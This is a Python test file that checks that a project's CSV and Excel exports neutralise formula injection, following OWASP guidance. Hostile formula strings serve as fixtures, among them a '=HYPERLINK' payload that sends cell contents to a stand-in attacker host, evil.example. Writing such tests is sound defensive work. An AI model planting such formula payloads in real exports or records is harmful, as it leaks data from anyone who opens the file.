"""Exports never carry a live formula and never fail on an organisation's name (issue 15,
findings 6 and 7): OWASP CSV-injection guidance for every CSV and Excel file we write."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from shuangsuiji import spreadsheets
from shuangsuiji.accounts.roles import Role
from shuangsuiji.directory.models import Target
from shuangsuiji.inspections.models import Inspection
from shuangsuiji.planning.models import AnnualPlan

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def formulas_and_quoted(content: bytes) -> tuple[int, list[str]]:
    """The number of formula cells in an xlsx, and the texts of its quote-prefixed cells."""
    book = zipfile.ZipFile(io.BytesIO(content))
    sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    xml = "".join(book.read(n).decode() for n in sheets)
    styles = book.read("xl/styles.xml").decode()
    cell_xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S).group(1)
    quoted_styles = {
        str(i) for i, xf in enumerate(re.findall(r"<xf [^>]*>", cell_xfs)) if "quotePrefix" in xf
    }
    strings = re.findall(
        r"<si><t[^>]*>(.*?)</t></si>", book.read("xl/sharedStrings.xml").decode(), re.S
    )
    quoted = [
        strings[int(index)]
        for style, index in re.findall(r'<c r="[A-Z]+\d+" s="(\d+)" t="s"><v>(\d+)</v>', xml)
        if style in quoted_styles
    ]
    return xml.count("<f>"), quoted


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("河北某公司", "河北某公司"),
        (-2, -2),
    ],
)
def test_csv_cell_neutralises_exactly_the_formula_starts(value, expected):
    assert spreadsheets.csv_cell(value) == expected


def test_names_with_path_separators_make_valid_sheets_and_files():
    assert (
        spreadsheets.sheet_name("唐山/遵化:分局[测试]*?" * 3)
        == "唐山_遵化_分局_测试_唐山_遵化_分局_测试_唐山_遵化_分局_"[:31]
    )
    assert spreadsheets.file_name("a/b\\c;d", "xlsx") == "a_b_c;d.xlsx"


def test_public_csv_neutralises_a_hostile_target_name_and_summary(client, portal):
    target = Target.objects.filter(organisation=portal.county).order_by("pk").first()
    Target.objects.filter(pk=target.pk).update(name=HOSTILE)
    Inspection.objects.filter(pk=portal.clean.pk).update(public_summary="=1+2 未发现问题")

    targets = csv_rows(client.get(f"/api/organisations/{portal.county.code}/targets?format=csv"))
    row = next(row for row in targets if row[1] == target.credit_code)
    assert row[0] == "'" + HOSTILE
    assert not any(cell.startswith("=") for row in targets for cell in row)

    results = csv_rows(
        client.get("/api/results", {"organisation": portal.county.code, "format": "csv"})
    )
    assert any("'=1+2 未发现问题" in row for row in results)
    assert not any(cell.startswith(spreadsheets.FORMULA_STARTS) for row in results for cell in row)


def test_workbooks_keep_a_hostile_organisation_name_as_text(client, portal, make_user):
    """An organisation named "=…/…" gives a statistics table, an item list and a plan workbook
    with no formula in them, the name shown as text, and no server error."""
    name = '=HYPERLINK("http://evil.example","遵化/分局")'
    county = portal.county
    type(county).objects.filter(pk=county.pk).update(name=name)
    client.force_login(make_user("stats", county, Role.COORDINATOR))
    plan = AnnualPlan.objects.filter(organisation=county).first()
    for url in (
        "/reports/statistics.xlsx?year=2026",
        "/reports/items.xlsx",
        f"/reports/plans/{plan.pk}.xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        formulas, quoted = formulas_and_quoted(response.content)
        assert formulas == 0, url
        assert any(text.startswith("=HYPERLINK") for text in quoted), url
        # the values read back unchanged (quotePrefix is a style, not a character)
        sheet = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0)
        assert any("遵化/分局" in str(cell) for row in sheet.to_python() for cell in row), url
        assert "attachment" in response["Content-Disposition"]
